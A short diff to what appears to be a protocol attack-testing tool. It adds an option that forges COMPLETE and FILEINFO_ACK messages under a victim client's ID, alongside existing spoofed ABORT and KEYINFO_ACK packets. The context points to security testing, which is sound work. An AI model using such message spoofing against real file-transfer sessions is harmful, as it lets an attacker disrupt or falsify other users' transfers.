@@ -799,6 +799,10 @@ def cmd_atserver(a):
             tx("abort", a.stranger, abort_body("stranger abort", host=cid))
         if a.id_abort:  # the client's own ID, from the attacker's address
             tx("id_abort", cid, abort_body("spoofed client abort"))
+        if a.id_complete:  # COMPLETE for every file and the session, as the client
+            for fid in range(0, 6):
+                tx("id_complete", cid, complete_body(fid))
+                tx("id_complete", cid, fileinfo_ack_body(fid))
         # forged KEYINFO_ACK (plaintext, and ENCRYPTED garbage) and CLIENT_KEY under the client's ID
         tx("keyinfo_ack", cid, keyinfo_ack_body(os.urandom(12)))
         tx("keyinfo_ack", cid, None, header(ENCRYPTED, 0, cid, g) + encrypted_body(
@@ -924,6 +928,7 @@ def main():
     at.add_argument("--duration", type=float, default=3)
     at.add_argument("--keylen", type=int, default=140)
     at.add_argument("--id-abort", action="store_true", help="also ABORTs with the client's ID")
+    at.add_argument("--id-complete", action="store_true", help="also COMPLETEs and FILEINFO_ACKs with the client's ID")
     at.add_argument("--siglen", type=int, default=128)
     a = ap.parse_args()
     return {"rogue": cmd_rogue, "sniff": cmd_sniff, "junk": cmd_junk, "abort": cmd_abort,
